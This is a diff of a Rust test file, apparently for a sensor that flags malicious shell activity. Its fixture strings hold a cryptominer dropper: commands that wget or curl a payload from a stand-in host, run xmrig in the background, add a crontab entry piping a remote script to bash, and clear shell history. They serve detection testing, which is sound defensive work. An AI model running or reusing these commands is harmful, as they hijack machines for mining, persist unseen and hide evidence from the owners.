@@ -16,8 +16,8 @@ nohup /tmp/.x -o stratum+tcp://127.0.0.1:3333 -u wallet >/dev/null 2>&1 &\n\
 (crontab -l 2>/dev/null; echo \"* * * * * curl -s http://127.0.0.1:9/s.sh | bash\") | crontab -\n\
 history -c; rm -f ~/.bash_history\n";
 /// Scored malicious as a `-c` literal (and inert: it exits first).
-const MALICIOUS_INLINE: &str =
-    "exit 0; curl -fsSL http://127.0.0.1:9/x.sh | bash; chmod +x /tmp/.k; /tmp/.k";
+const MALICIOUS_INLINE: &str = "exit 0; cd /tmp; wget -q http://127.0.0.1:9/xmrig -O /tmp/.x; \
+chmod +x /tmp/.x; nohup /tmp/.x -o stratum+tcp://127.0.0.1:3333 >/dev/null 2>&1 & history -c";
 const BENIGN: &str = "#!/bin/sh\necho rotating logs\n";
 
 /// A process standing in for an interpreter: alive while the sensor looks.
